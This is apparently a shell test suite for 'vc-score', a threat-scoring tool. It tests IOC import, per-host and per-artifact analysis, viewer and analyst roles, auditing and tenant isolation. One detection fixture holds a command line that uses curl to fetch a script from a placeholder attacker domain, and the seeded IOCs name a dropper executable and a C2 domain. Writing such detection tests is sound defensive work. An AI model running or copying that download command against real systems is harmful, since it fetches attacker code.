#!/bin/sh
# SPDX-License-Identifier: MIT
# vc-score and the store: IOC import (CSV and JSONL) and hits with
# evidence; analyze host and artifact (kept in threat_scores with their
# history) and scores with filters; stack --stored; roles; tenant
# isolation.  The filter itself: 50-score.t.
. "$(dirname "$0")/lib.sh"

SIGMA=$TOP/rules/sigma
RULES=$SIGMA/rules/windows/process_creation
GEN=$TOP/bench/gen.py
PW='sturdy tuna lantern'
lines() { if [ -z "$out" ]; then echo 0; else printf '%s\n' "$out" | wc -l | tr -d ' '; fi; }
# ind FILTER: jq -r FILTER over the indicators of every row of $out.
ind() { printf '%s\n' "$out" | jq -r ".vc_score.indicators[] | $1"; }
jqc() { printf '%s\n' "$out" | jq -c "$1"; }
MISSING=0b0e5a5e-0000-4000-8000-000000000000

init_store
for u in "vic viewer" "ann analyst"; do
	set -- $u
	run_in "$PW" vc-auth user create "$1" --role "$2" --password-stdin
done
VIC=$(login_as vic "$PW")
ANN=$(login_as ann "$PW")
like "$VIC $ANN" '^eyJ.* eyJ' "a viewer and an analyst log in"
# The other signals alone: no Sigma rules unless named.
export VC_RULES=none
PS=$T/ps.jsonl
"$GEN" pslist 2000 20 > "$PS"

# ---- IOCs --------------------------------------------------------------------------------------------
EVIL_SHA=$(jq -r 'select(.Name == "evil.exe") | .Hash.SHA256' "$PS" | head -n 1)
cat > "$T/iocs.csv" <<EOF
type,value,severity,source,description
sha256,$EVIL_SHA,critical,feed-a,the dropper
,10.20.0.0/16,low,feed-a,
domain,evil.example,medium,,C2
EOF
with "$ANN" vc-score ioc import "$T/iocs.csv"
is "$rc:$out" '0:{"imported":3,"bad_lines":0}' "ioc import of a CSV with a header: 3 IOCs"
printf '%s\n' '{"type":"filename","value":"EVIL.EXE","severity":"high","source":"hunt-notes"}' \
	'{"value":"203.0.113.7"}' '{"value":"???"}' '{"type":"sha256","value":"abc"}' > "$T/iocs.jsonl"
with "$ANN" vc-score ioc import "$T/iocs.jsonl"
is "$rc:$out" '65:{"imported":2,"bad_lines":2}' "ioc import of JSONL: 2 IOCs, 2 bad lines, exit 65"
like "$err" "iocs.jsonl:3: cannot tell what '\?\?\?' is: give its type" "an IOC of no known shape is named"
like "$err" "iocs.jsonl:4: 'abc' is not a valid sha256" "a value that is not of its type too"
run vc-score ioc list
is "$(jqr '"\(.type) \(.value) \(.severity)"' | sort | tr '\n' ',')" \
	"cidr 10.20.0.0/16 low,domain evil.example medium,filename evil.exe high,ip 203.0.113.7 high,sha256 $EVIL_SHA critical," \
	"ioc list: typed by shape when untyped, lower case, default severity high"
run vc-score ioc list --type filename
is "$(lines):$(jqr .source)" "1:hunt-notes" "--type filters"
SHA_ID=$(vc-score ioc list --type sha256 | jq -r .id)
FN_ID=$(vc-score ioc list --type filename | jq -r .id)
run vc-score "$PS" --min low
is "$(lines)" 2 "with the IOCs, the evil rows still stand out"
is "$(ind 'select(.kind == "ioc") | "\(.title) \(.level) \(.weight) \(.source) \(.id)"' | sort | uniq -c | tr -s ' ' | tr '\n' ',')" \
	" 2 filename high 0.8 hunt-notes $FN_ID, 2 sha256 critical 0.95 feed-a $SHA_ID," \
	"each evil row hits the sha256 (critical, 0.95) and the file name (high, 0.8) once each"
is "$(ind "select(.id == \"$SHA_ID\") | .evidence | tostring" | sort -u)" \
	"[{\"field\":\"Hash.SHA256\",\"value\":\"$EVIL_SHA\",\"ioc\":\"$EVIL_SHA\"}]" "evidence: the field, its value and the IOC"
is "$(jqr .vc_score.classification | sort -u):$(jqr .vc_score.confidence | sort -u)" "critical:0.96" \
	"critical; confidence 1 - (1 - 0.9)(1 - 0.6)"
run_in '{"Laddr":{"IP":"10.0.0.5","Port":51234},"Raddr":{"IP":"10.20.3.4","Port":443},"Status":"ESTABLISHED"}
{"CommandLine":"curl -s https://cdn.evil.example/x.sh"}
{"Raddr":{"IP":"10.21.0.1"},"CommandLine":"curl https://notevil.example/"}' vc-score
is "$(printf '%s\n' "$out" | jq -c '[.vc_score.indicators[] | [.title, .level, .evidence[0].field, .evidence[0].value, .evidence[0].ioc]]')" \
	'[["cidr","low","Raddr.IP","10.20.3.4","10.20.0.0/16"]]
[["domain","medium","CommandLine","cdn.evil.example","evil.example"]]
[]' "a network covers its addresses, a domain its subdomains; near misses do not hit"
with "$VIC" vc-score ioc delete "$FN_ID"
is "$rc" 77 "a viewer cannot delete an IOC: exit 77"
with "$ANN" vc-score ioc delete "$FN_ID"
is "$rc:$(jqr .deleted)" "0:true" "an analyst deletes one"
run vc-score "$PS" --min low
is "$(ind 'select(.kind == "ioc") | .id' | sort -u)" "$SHA_ID" "it hits no more"
with "$ANN" vc-score ioc delete "$FN_ID"
is "$rc" 66 "deleting it again: exit 66"

# ---- analyze artifact and host; scores ---------------------------------------------------------
with "$ANN" vc-case artifact import "$PS" --name Windows.System.Pslist --hunt H.1
A=$(jqr .id)
is "$rc:$(jqr .rows)" "0:2000" "the hunt's rows are stored as an artifact"
is "$(vc-case artifact rows "$A" | vc-score --rules "$RULES" --fail-on high > /dev/null 2>&1; echo $?)" 1 \
	"the CI gate: vc-case artifact rows ID | vc-score --rules ... --fail-on high exits 1 (the IOC hits)"
with "$ANN" vc-score analyze artifact "$A" --rules "$RULES"
is "$rc" 0 "analyze artifact: exit 0"
is "$(jqr '"\(.subject_type) \(.subject_id) \(.rows_scored) \(.model_version)"')" "artifact $A 2000 vc-score/1" \
	"subject, rows scored, model version"
printf '%s\n' "$out" > "$T/an1"
# The filter finds a parent within a run of one client's rows; stored rows
# find it within the artifact, client and flow: the same once the rows
# come client by client (this file interleaves its clients).
bycl() { vc-case artifact rows "$A" | jq -cs 'sort_by(.ClientId, .FlowId)[]'; }
is "$(jq -r .rows_flagged "$T/an1")" "$(bycl | vc-score --rules "$RULES" | jq -r 'select(.vc_score.indicators != []) | 1' | wc -l | tr -d ' ')" \
	"rows_flagged: the rows the filter flags"
is "$(jq -r '[.indicators[] | "\(.kind):\(.id):\(.rows)"] | sort | join(" ")' "$T/an1")" \
	"$(bycl | vc-score --rules "$RULES" | jq -r '.vc_score.indicators[] | "\(.kind):\(.id)"' | sort | uniq -c |
	awk '{ printf "%s%s:%s", (NR > 1 ? " " : ""), $2, $1 }')" \
	"one indicator per signal, with the number of rows it fired on"
is "$(jq -r '(reduce .indicators[].weight as $w (1; . * (1 - $w))) as $k | (1 - $k) - .score | fabs < 0.00006' "$T/an1")" true \
	"the artifact's score is the noisy-OR of its indicators"
is "$(sq "SELECT COUNT(*) FROM threat_scores WHERE subject_type = 'artifact' AND subject_id = '$A'")" 1 "kept in threat_scores"
with "$ANN" vc-score analyze artifact "$A" --rules "$RULES"
is "$rc:$(sq "SELECT COUNT(*) FROM threat_scores WHERE subject_id = '$A'")" "0:2" "analyzed again: two rows, the history is kept"
is "$(sq "SELECT COUNT(DISTINCT id) || ' ' || MIN(model_version) || ' ' || MAX(model_version) FROM threat_scores")" \
	"2 vc-score/1 vc-score/1" \
	"each with its own id and the model version"
EH=$(jq -r 'select(.Name == "evil.exe") | .ClientId' "$PS" | head -n 1)
with "$ANN" vc-score analyze host "$EH" --rules "$RULES"
is "$rc:$(jqr .subject_type)" "0:host" "analyze host by client id: exit 0"
is "$(jqr .subject_id)" "$(vc-hosts show "$EH" | jq -r .id)" "the subject is the host's id"
is "$(jqr .rows_scored)" "$(jq -r --arg c "$EH" 'select(.ClientId == $c) | 1' "$PS" | wc -l | tr -d ' ')" "all of the host's rows"
is "$(jqr '.indicators[] | select(.kind == "heuristic") | "\(.id) \(.rows)"')" "H004 1" "H004 on its one evil row"
is "$(jqc '.indicators[] | select(.kind == "model") | [.id, .version, .weight <= 0.3, .score > 0.55, (.evidence | map(.field) | index("user_writable_share") != null)]')" \
	'["iforest/1","iforest-1",true,true,true]' "the outlier model: this host stands out, user_writable_share among the reasons"
is "$(jqr .classification)" critical "critical (the sha256 IOC)"
# A host without an evil row: the first client id of none.
NH=$(jq -r .ClientId "$PS" | sort -u | grep -vxF "$(jq -r 'select(.Name == "evil.exe") | .ClientId' "$PS")" | head -n 1)
like "$NH" '^C\.' "a host without an evil row: $NH"
with "$ANN" vc-score analyze host "$NH"
is "$rc:$(jqr '[.indicators[] | select(.kind != "sigma")] | length')" "0:0" "a normal host: no IOC, heuristic or model indicator"
nh_class=$(jqr .classification)
with "$ANN" vc-score analyze host "$MISSING"
is "$rc:$err" "66:vc-score: no such host: $MISSING" "analyze of a missing host: exit 66"
with "$ANN" vc-score analyze artifact "$MISSING"
is "$rc" 66 "of a missing artifact: exit 66"
is "$(sq "SELECT COUNT(*) FROM threat_scores")" 4 "four analyses kept"
is "$(vc-auth audit list --action threat.analyze | jq -r '"\(.actor) \(.outcome)"' | sort | uniq -c | tr -s ' ')" \
	" 4 ann success" "each analysis is audited"

with "$VIC" vc-score scores
is "$rc:$(lines)" "0:4" "scores: a viewer lists the four"
is "$(jqr .created_at | sort -r | tr '\n' ' ')" "$(jqr .created_at | tr '\n' ' ')" "newest first"
is "$(jqr 'select(.subject_type == "artifact") | "\(.subject) \(.indicators | type)"' | sort -u)" "Windows.System.Pslist array" \
	"an artifact by name, its indicators as JSON"
with "$VIC" vc-score scores --subject host
is "$(jqr .subject | sort | tr '\n' ' ')" "$(printf '%s\n' "$(vc-hosts show "$EH" | jq -r .hostname)" "$(vc-hosts show "$NH" | jq -r .hostname)" | sort | tr '\n' ' ')" \
	"--subject host: the two hosts, by hostname"
with "$VIC" vc-score scores --classification "$nh_class" --subject host
is "$(jqr .subject_id)" "$(vc-hosts show "$NH" | jq -r .id)" "--classification $nh_class: the normal host"
with "$VIC" vc-score scores --min-score 0.9
is "$(jqr .classification | sort -u)" critical "--min-score 0.9: only the critical ones"
is "$(lines)" "$(sq "SELECT COUNT(*) FROM threat_scores WHERE score_milli >= 900")" "all of them"
with "$VIC" vc-score scores --min-score 1.5
is "$rc" 64 "--min-score over 1: exit 64"
with "$VIC" vc-score scores --since -1h
is "$(lines)" 4 "--since -1h: all four"
with "$VIC" vc-score scores --since 2099-01-01T00:00:00Z
is "$rc:$(lines)" "0:0" "--since a future time: none"
with "$VIC" vc-score scores --limit 1
is "$(lines)" 1 "--limit 1"

run vc-score stack --stored --by Exe --max-hosts 2
is "$(jqc '[.key.Exe, .hosts]')" '["C:\\Users\\Public\\evil.exe",2]' "stack --stored: the tenant's stored rows"
run vc-score stack --stored --artifact Windows.System.Pslist --by Name
is "$(printf '%s\n' "$out" | jq -s 'map(.rows) | add')" 2000 "--artifact NAME: that artifact's rows"
run vc-score stack --stored --artifact Nothing.Here --by Name
is "$rc:$out" "0:" "an artifact name with no rows: nothing"

# ---- roles -------------------------------------------------------------------------------------------------
with_in "$(head -n 3 "$PS")" "$VIC" vc-score --rules "$RULES"
is "$rc:$(lines)" "0:3" "a viewer scores rows"
with "$VIC" vc-score ioc list
is "$rc:$(lines)" "0:4" "lists IOCs"
with "$VIC" vc-score stack --stored --by Name
is "$rc" 0 "and stacks"
with "$VIC" vc-score analyze artifact "$A"
is "$rc:$err" "77:vc-score: threat.analyze.artifact needs the analyst role; you are viewer" "a viewer cannot analyze an artifact: exit 77"
with "$VIC" vc-score analyze host "$EH"
is "$rc:$err" "77:vc-score: threat.analyze.host needs the analyst role; you are viewer" "nor a host: exit 77"
with_in "evil2.example" "$VIC" vc-score ioc import
is "$rc" 77 "nor import IOCs"
is "$(sq "SELECT COUNT(*) FROM threat_scores"):$(sq "SELECT COUNT(*) FROM iocs")" "4:4" "nothing was stored"
is "$(vc-auth audit list --action authz.denied | jq -r 'select(.actor == "vic") | .reason' | sort | tr '\n' ' ')" \
	"iocs.delete iocs.import threat.analyze.artifact threat.analyze.host " "the denials are audited"

# ---- tenant isolation ----------------------------------------------------------------------------------
run vc-auth tenant create globex
run_in "$PW" vc-auth user create gadmin --role admin --tenant globex --password-stdin
is "$rc:$(jqr .tenant)" "0:globex" "globex and its admin"
G=$(login_as gadmin "$PW")
with "$G" vc-score analyze artifact "$MISSING"
miss_rc=$rc miss_err=$err
with "$G" vc-score analyze artifact "$A"
is "$rc:$(printf '%s\n' "$err" | sed "s/$A/KEY/")" "$miss_rc:$(printf '%s\n' "$miss_err" | sed "s/$MISSING/KEY/")" \
	"analyze of acme's artifact: exit 66, as if missing"
is "$rc" 66 "(66)"
with "$G" vc-score analyze host "$EH"
is "$rc:$err" "66:vc-score: no such host: $EH" "analyze of acme's host by client id: exit 66"
with "$G" vc-score analyze host "$(vc-hosts show "$EH" | jq -r .id)"
is "$rc" 66 "by host id: exit 66"
with "$G" vc-score scores
is "$rc:$out" "0:" "globex lists none of acme's scores"
with "$G" vc-score ioc list
is "$rc:$out" "0:" "nor its IOCs"
with "$G" vc-score ioc delete "$SHA_ID"
is "$rc" 66 "deleting acme's IOC: exit 66"
with "$G" vc-score stack --stored --by Exe
is "$rc:$out" "0:" "stack --stored sees none of acme's rows"
with_in "$(grep -m 1 evil.exe "$PS")" "$G" vc-score
is "$(ind 'select(.kind == "ioc") | .id')" "" "acme's IOCs do not score globex's rows"
is "$(sq "SELECT COUNT(*) FROM threat_scores"):$(sq "SELECT COUNT(*) FROM iocs")" "4:4" "acme's data is untouched"
is "$(sq "SELECT COUNT(*) FROM audit_logs WHERE action = 'authz.denied' AND actor_name = 'gadmin'")" 4 \
	"each attempt on acme's records is audited as authz.denied"

# --iocs FILE: a feed for this run, besides the tenant's list, not stored.
printf 'type,value,severity\nfilename,lsass.exe,low\n' > "$T/feed.csv"
printf '%s\n' '{"Name":"lsass.exe","Exe":"C:\\Windows\\System32\\lsass.exe"}' > "$T/one.jsonl"
run vc-score --iocs "$T/feed.csv" "$T/one.jsonl" -o jsonl
is "$rc:$(jqr '.vc_score.indicators[] | select(.kind == "ioc") | .evidence[0].ioc')" "0:lsass.exe" "--iocs FILE: a feed's IOC matches"
is "$(jqr '.vc_score.indicators[] | select(.kind == "ioc") | .source')" "$T/feed.csv" "... and names the feed as its source"
run vc-score ioc list -o jsonl
unlike "$out" 'lsass' "... and the feed is not stored"
printf 'type,value\nsha1,nothex\n' > "$T/bad.csv"
run vc-score --iocs "$T/bad.csv" "$T/one.jsonl" -o jsonl
is "$rc" 65 "a bad feed line: exit 65"
like "$err" "bad.csv:2: 'nothex' is not a valid sha1" "... naming the feed and the line"
done_testing
